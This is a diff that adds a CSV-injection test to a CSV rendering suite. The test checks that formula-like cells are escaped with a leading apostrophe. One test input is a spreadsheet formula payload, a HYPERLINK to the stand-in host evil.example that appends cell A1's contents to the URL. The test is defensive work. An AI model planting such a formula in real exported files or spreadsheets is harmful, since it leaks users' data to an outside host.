@@ -69,3 +69,23 @@ describe('CSV rendering', () => {
     expect(csv).toBe('\uFEFFName,Value\n"Rao, K",1\n"Say ""hi""",\n"line\nbreak",2.5\n');
   });
 });
+
+describe('CSV injection', () => {
+  it('turns cells that a spreadsheet would run as formulas into text', () => {
+    const csv = renderCsv({
+      title: 't',
+      filename: 'f',
+      columns: [{ header: 'Reason', width: 10, value: (r: { v: string | number }) => r.v }],
+      rows: [{ v: '=HYPERLINK("http://evil.example/?"&A1,"click")' }, { v: '+91 98450 12345' }, { v: '-2+3' }, { v: '@SUM(A1)' }, { v: '\t=1' }, { v: -5 }, { v: 'plain' }],
+    }).toString('utf8');
+    expect(csv.split('\n').slice(1, -1)).toEqual([
+      `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`,
+      "'+91 98450 12345",
+      "'-2+3",
+      "'@SUM(A1)",
+      "'\t=1",
+      '-5',
+      'plain',
+    ]);
+  });
+});
